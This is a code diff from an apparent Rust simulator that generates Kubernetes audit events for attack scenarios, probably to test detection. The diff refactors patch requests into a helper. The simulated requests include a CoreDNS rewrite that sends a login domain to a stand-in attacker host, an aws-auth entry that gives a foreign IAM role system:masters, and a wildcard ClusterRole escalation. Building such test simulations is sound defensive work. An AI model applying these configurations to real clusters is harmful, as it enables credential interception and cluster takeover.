@@ -1140,35 +1140,51 @@ fn rbac_then_workload(sim: &mut Sim, c: &Cast, t0: i64) {
     if let Some(cs) = resp["spec"]["template"]["spec"]["containers"].as_array_mut() {
         cs.push(patch["spec"]["template"]["spec"]["containers"][0].clone());
     }
-    let mut r = sim.req(
+    kubectl_patch(
+        sim,
         tt,
         &c.ci,
+        ("deployments", &ns, &name),
+        patch,
+        Some(resp),
+    );
+}
+
+/// `kubectl patch` of `(resource, namespace, name)` by `actor`: the patch is the request
+/// body and, when given, `resp` the object the API server returned.
+fn kubectl_patch(
+    sim: &mut Sim,
+    t: i64,
+    actor: &Actor,
+    (resource, ns, name): (&str, &str, &str),
+    patch: serde_json::Value,
+    resp: Option<serde_json::Value>,
+) {
+    let mut r = sim.req(
+        t,
+        actor,
         "patch",
-        "deployments",
-        &ns,
-        &name,
+        resource,
+        ns,
+        name,
         "",
         "?fieldManager=kubectl-patch",
     );
     r.request_object = Some(patch);
-    r.response_object = Some(resp);
+    r.response_object = resp;
     sim.submit(r);
 }
 
 fn coredns(sim: &mut Sim, c: &Cast, t0: i64) {
     let body = json!({"data": {"Corefile": ".:53 {\n    errors\n    health\n    rewrite name login.example.com login-example.attacker.example.net\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n      pods insecure\n      fallthrough in-addr.arpa ip6.arpa\n    }\n    forward . /etc/resolv.conf\n    cache 30\n    loop\n    reload\n}\n"}});
-    let mut r = sim.req(
+    kubectl_patch(
+        sim,
         t0,
         &c.backdoor,
-        "patch",
-        "configmaps",
-        "kube-system",
-        "coredns",
-        "",
-        "?fieldManager=kubectl-patch",
+        ("configmaps", "kube-system", "coredns"),
+        body,
+        None,
     );
-    r.request_object = Some(body);
-    sim.submit(r);
 }
 
 fn cronjob(sim: &mut Sim, c: &Cast, t0: i64) {
@@ -1319,18 +1335,14 @@ fn deployment_deletion(sim: &mut Sim, c: &Cast, t0: i64) {
 
 fn aws_auth(sim: &mut Sim, c: &Cast, t0: i64) {
     let patch = json!({"data": {"mapRoles": "- rolearn: arn:aws:iam::123456789012:role/eks-node-role\n  username: system:node:{{EC2PrivateDNSName}}\n  groups:\n    - system:bootstrappers\n    - system:nodes\n- rolearn: arn:aws:iam::444455556666:role/ops-break-glass\n  username: ops-admin\n  groups:\n    - system:masters\n"}});
-    let mut r = sim.req(
+    kubectl_patch(
+        sim,
         t0,
         &c.backdoor,
-        "patch",
-        "configmaps",
-        "kube-system",
-        "aws-auth",
-        "",
-        "?fieldManager=kubectl-patch",
+        ("configmaps", "kube-system", "aws-auth"),
+        patch,
+        None,
     );
-    r.request_object = Some(patch);
-    sim.submit(r);
 }
 
 fn secret_denials(sim: &mut Sim, c: &Cast, t0: i64) {
@@ -1414,19 +1426,14 @@ fn system_role(sim: &mut Sim, c: &Cast, t0: i64) {
     let resp = json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
         "metadata": {"name": "system:aggregate-to-edit", "labels": {"kubernetes.io/bootstrapping": "rbac-defaults", "rbac.authorization.k8s.io/aggregate-to-edit": "true"}},
         "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
-    let mut r = sim.req(
+    kubectl_patch(
+        sim,
         t0,
         &c.backdoor,
-        "patch",
-        "clusterroles",
-        "",
-        "system:aggregate-to-edit",
-        "",
-        "?fieldManager=kubectl-patch",
+        ("clusterroles", "", "system:aggregate-to-edit"),
+        patch,
+        Some(resp),
     );
-    r.request_object = Some(patch);
-    r.response_object = Some(resp);
-    sim.submit(r);
 }
 
 fn namespace_netpol(sim: &mut Sim, c: &Cast, t0: i64) {
